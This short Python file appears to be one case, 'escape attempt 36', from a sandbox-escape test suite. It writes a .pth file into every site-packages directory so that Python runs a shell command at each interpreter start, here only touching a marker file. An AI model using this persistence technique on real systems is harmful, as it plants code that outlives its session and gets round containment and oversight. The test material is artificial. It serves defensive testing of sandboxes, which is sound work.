"""Escape attempt 36: persist sitecustomize."""

# ruff: noqa  (an attack written to be run, not to be tidy)
import site, os

for d in site.getsitepackages():
    open(os.path.join(d, "argus_escape_" + TOKEN + ".pth"), "w").write(
        'import os; os.system("touch ' + MARKER_DIR + '/pth")'
    )
